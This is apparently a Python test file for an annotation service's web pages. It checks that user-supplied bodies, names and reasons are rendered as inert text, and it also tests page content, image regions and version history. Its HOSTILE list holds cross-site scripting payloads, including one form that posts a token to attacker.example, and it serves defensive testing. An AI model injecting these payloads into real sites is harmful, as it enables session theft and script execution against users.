"""The page of an annotation: readable, and harmless whatever a body holds."""

from __future__ import annotations

import json
import re
import time
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from api.annotations.strangers import LONG, plain, without_markup
from fdo.documents import Document
from fdo.identifiers import Pid
from fdo.lifecycle import Status
from tests.api.annotations.reviewing import COUNTRY, LOCALITY, Reviewing
from tests.api.documents import a_specimen

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "<a href='javascript:alert(1)'>click</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>body{display:none}</style>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</dd></dl><form action=https://attacker.example><input name=token>",
    "{{ 7 * 7 }}{% raw %}",
    "<!--><script>alert(1)</script>-->",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
]
FORMATS = ["text/html", "text/plain", "application/xhtml+xml", "image/svg+xml"]


class Found(HTMLParser):
    """What a browser would see on a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.handlers: list[str] = []
        self.links: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag != "script" or given.get("type") != "application/ld+json":
            self.tags.append(tag)
        self.handlers += [name for name, _ in attrs if name.startswith("on") or name == "srcdoc"]
        self.links += [value or "" for name, value in attrs if name in ("href", "src", "action")]


def harmless(page: str) -> None:
    seen = Found(page)
    assert not {"script", "iframe", "img", "svg", "style", "math", "object"} & set(seen.tags)
    assert seen.handlers == []
    assert not [link for link in seen.links if link.lower().startswith(("javascript:", "data:"))]
    assert not [link for link in seen.links if "attacker.example" in link]


def page_of(told: Reviewing, pid: Pid) -> str:
    answer = told.ask("GET", f"/{pid}", headers={"accept": "text/html"})
    assert answer.status_code in (200, 410), answer.text
    return answer.text


def comment(told: Reviewing, target: Pid, *bodies: Any, **more: Any) -> Pid:
    """A comment with these bodies."""
    return told.propose(target, "", LOCALITY, "oa:commenting", oa_hasBody=list(bodies), **more)


@pytest.mark.parametrize("format_", FORMATS)
def test_hostile_bodies_are_shown_as_text(reviewing: Reviewing, format_: str) -> None:
    bodies = [
        {"@type": "oa:TextualBody", "rdf:value": text, "dcterms:format": [format_]}
        for text in HOSTILE
    ]
    page = page_of(reviewing, comment(reviewing, reviewing.specimen(), *bodies))
    harmless(page)
    if format_ == "text/plain":
        assert "&lt;script&gt;alert(1)" in page
        assert "{{ 7 * 7 }}" in page


def test_hostile_names_and_reasons_are_shown_as_text(reviewing: Reviewing) -> None:
    creator: Document = {"@type": "schema:Person", "schema:name": HOSTILE[1],
                         "schema:identifier": "javascript:alert(1)"}  # fmt: skip
    pid = comment(
        reviewing, reviewing.specimen(), {"@id": "https://example.org/\">"[:20]},
        dcterms_creator=[creator], col_softwareVersion=HOSTILE[0],
    )  # fmt: skip
    harmless(page_of(reviewing, pid))
    reviewing.ask("DELETE", f"/{pid}", "admin", params={"reason": HOSTILE[0]})
    harmless(page_of(reviewing, pid))


def test_signs_that_turn_text_around_are_taken_out(reviewing: Reviewing) -> None:
    text = "user\u202egpj.exe \u2066x\u2069 \u200bhidden\x00"
    pid = comment(reviewing, reviewing.specimen(), {"@type": "oa:TextualBody", "rdf:value": text})
    page = page_of(reviewing, pid)
    assert "usergpj.exe x hidden" in page
    assert not {"\u202e", "\u2066"} & set(page.split('id="annotation"')[1].split("</section>")[0])


def test_a_long_body_is_cut_on_the_page_only(reviewing: Reviewing) -> None:
    text = "<b>" + "x" * 1_000_000
    pid = comment(
        reviewing, reviewing.specimen(),
        {"@type": "oa:TextualBody", "rdf:value": text, "dcterms:format": ["text/html"]},
    )  # fmt: skip
    page = page_of(reviewing, pid)
    part = page.split('id="annotation"')[1].split("</section>")[0]
    assert len(part) < LONG + 5_000
    assert "the document has it all" in part


@settings(max_examples=200, deadline=None)
@given(text=st.text(st.sampled_from("<>/!-&;=\"' abscriptonload"), max_size=60))
def test_markup_never_survives(text: str) -> None:
    assert not Found(without_markup(text)).handlers
    assert len(plain(text, 20)) <= 20


def test_the_text_of_html_is_what_a_reader_would_see() -> None:
    html = "<p>One <b>bold</b> word.</p><script>no</script><p>Two &lt;tags&gt;</p>"
    assert without_markup(html) == "One bold word. Two <tags>"


@pytest.mark.parametrize("piece", ["<![", "<![if ", "<!--", "<a ", "<a =", "<a href='", "</"])
def test_broken_html_is_read_in_a_moment(piece: str) -> None:
    begun = time.process_time()
    assert not Found(without_markup(piece * (64_000 // len(piece)))).handlers
    assert time.process_time() - begun < 1


# ── what it tells ────────────────────────────────────────────────────────────────────────


def test_the_page_tells_what_of_which_version_and_by_whom(reviewing: Reviewing) -> None:
    specimen = reviewing.specimen()
    pid = reviewing.propose(specimen, "Latvia")
    page = page_of(reviewing, pid)
    assert f"<h1>Editing: country · {specimen}</h1>" in page
    for said in ("waits for a decision", "Latvia", "dwc:country", f'href="/{specimen}"', "Anna",
                 f'href="/{specimen}/1"', "?format=w3c"):  # fmt: skip
        assert said in page, said


def test_the_page_tells_that_what_it_is_about_has_changed(reviewing: Reviewing) -> None:
    specimen = reviewing.specimen()
    pid = comment(reviewing, specimen, {"@type": "oa:TextualBody", "rdf:value": "Which one?"})
    changed = a_specimen("DH-1")
    changed["ods:hasEvents"][0]["ods:hasLocation"]["dwc:locality"] = "Elsewhere"
    reviewing.told.revise(specimen, changed)
    page = page_of(reviewing, pid)
    assert "has changed since" in page
    assert f"/{specimen}/diff?from=1&amp;to=2" in page


def test_the_page_tells_who_decided_and_why(reviewing: Reviewing) -> None:
    pid = reviewing.propose(reviewing.specimen(), "Latvia", COUNTRY)
    answer = reviewing.post(f"/api/annotations/{pid}/reject", "curator", {"reason": "Seen: no."})
    assert answer.status_code == 200
    page = page_of(reviewing, pid)
    assert "rejected" in page
    assert "Rejected by" in page
    assert "Seen: no." in page
    assert page_of(reviewing, pid).count("application/ld+json") >= 1


def test_a_region_leads_to_its_crop(reviewing: Reviewing) -> None:
    media = reviewing.told.register("media", a_medium(), Status.ACTIVE)
    region = {"@type": "oa:FragmentSelector", "rdf:value": "xywh=percent:25,25,50,50",
              "dcterms:conformsTo": "http://www.w3.org/TR/media-frags/"}  # fmt: skip
    target = {"oa:hasSource": media.iri, "oa:hasSelector": [region]}
    pid = comment(reviewing, media, oa_hasTarget=[target])
    page = page_of(reviewing, pid)
    assert f'href="/api/media/{media}/region?xywh=percent:25,25,50,50"' in page
    assert "fractions 0.25, 0.25, 0.5, 0.5, pixels 500, 250, 1000, 500" in page


def test_every_region_leads_to_its_crop_and_a_span_has_two_ends(reviewing: Reviewing) -> None:
    media = reviewing.told.register("media", a_medium(), Status.ACTIVE)
    drawn = "<svg viewBox='0 0 100 100'><rect x='10' y='20' width='30' height='40'/></svg>"
    span = {
        "oa:sourceDateStart": "2026-01-01T00:00:00Z",
        "oa:sourceDateEnd": "2026-03-01T12:00:00Z",
    }
    first = {"oa:hasSource": media.iri, "oa:hasState": [{"@type": "oa:TimeState", **span}]}
    second = {"@type": "oa:SpecificResource", "oa:hasSource": media.iri,
              "oa:hasSelector": [{"@type": "oa:SvgSelector", "rdf:value": drawn}]}  # fmt: skip
    page = page_of(reviewing, comment(reviewing, media, oa_hasTarget=[first, second]))
    assert f'href="/api/media/{media}/region?xywh=percent:10,20,30,40"' in page
    assert "as of 2026-01-01T00:00:00Z – 2026-03-01T12:00:00Z" in page


def a_medium() -> Document:
    """A digital media object whose size is known."""
    return {
        "@type": "ods:DigitalMedia",
        "ods:fdoType": "https://doi.org/21.T11148/bbad8c4e101e8af01115",
        "ods:status": "Active",
        "ac:accessURI": "https://example.org/media/1.jpg",
        "dcterms:type": "StillImage",
        "dcterms:rights": "http://creativecommons.org/publicdomain/zero/1.0/",
        "exif:PixelXDimension": 2000,
        "exif:PixelYDimension": 1000,
        "ods:sourceSystemID": "https://hdl.handle.net/20.5000.5072/SRC-000-001",
    }


@pytest.mark.parametrize(
    "tail",
    ["versions", "history", "diff?from=1&to=2", "record", "linkset", "cite", "conformance",
     "datacite", "1", "2", "?as-of=v1", "1/cite", "1/linkset"],
)  # fmt: skip
def test_the_past_of_an_annotation_is_told_like_that_of_every_object(
    rejected: tuple[Reviewing, Pid], tail: str
) -> None:
    told, pid = rejected
    path = f"/{pid}{tail}" if tail.startswith("?") else f"/{pid}/{tail}"
    answer = told.ask("GET", path, headers={"accept": "text/html, */*;q=0.1"})
    assert answer.status_code == 200, (tail, answer.text)


def test_the_past_is_a_memento_in_the_w3c_form_too(rejected: tuple[Reviewing, Pid]) -> None:
    told, pid = rejected
    answer = told.ask("GET", f"/{pid}?as-of=v1&format=w3c")
    assert answer.json()["ods:mergingDecisionStatus"] == "Pending"
    assert answer.headers["memento-datetime"]
    assert told.ask("GET", f"/{pid}?format=w3c").json()["ods:mergingDecisionStatus"] == "Rejected"


def test_the_head_of_the_page_describes_the_annotation(rejected: tuple[Reviewing, Pid]) -> None:
    told, pid = rejected
    page = page_of(told, pid)
    (block,) = re.findall(r'<script type="application/ld\+json">(.*?)</script>', page, re.S)
    described = json.loads(block)
    assert described["@id"] == pid.iri
    assert described["creator"]


@pytest.fixture
def rejected(reviewing: Reviewing) -> tuple[Reviewing, Pid]:
    """An annotation of two versions."""
    pid = reviewing.propose(reviewing.specimen(), "Latvia", COUNTRY)
    reviewing.post(f"/api/annotations/{pid}/reject", "curator", {"reason": "Seen: no."})
    return reviewing, pid
